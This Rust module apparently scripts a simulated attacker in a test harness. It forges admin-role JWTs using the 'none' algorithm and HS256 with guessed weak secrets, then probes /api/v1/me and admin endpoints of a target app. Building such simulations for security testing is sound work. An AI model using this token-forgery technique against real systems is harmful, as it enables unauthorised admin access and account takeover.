//! Tokens without a signature, with another one, and with one that was guessed.

use base64::{Engine as _, prelude::BASE64_URL_SAFE_NO_PAD as BASE64};

use super::enter;
use crate::{
    player::{Over, Seat},
    tokens::sign,
};

pub(super) async fn act(seat: &mut Seat) -> Result<(), Over> {
    enter(seat, 150, "customer153").await?;
    for user in [5, 10, 4, 9] {
        let claims = format!(r#"{{"sub":"{user}","role":"admin","exp":4102444800}}"#);
        let claims = BASE64.encode(claims);
        for alg in ["none", "None", "HS256"] {
            let head = BASE64.encode(format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#));
            let signed = format!("{head}.{claims}");
            for key in ["secret", "quayside", "changeme"] {
                let mac = if alg == "HS256" {
                    BASE64.encode(sign(key.as_bytes(), &signed))
                } else {
                    String::new()
                };
                seat.token = format!("{signed}.{mac}");
                seat.get("/api/v1/me").await?;
                seat.rest(2_000).await?;
                if alg != "HS256" {
                    break;
                }
            }
        }
        seat.get("/api/v1/admin/users").await?;
        seat.graphql("{me{login role}}").await?;
    }
    Ok(())
}
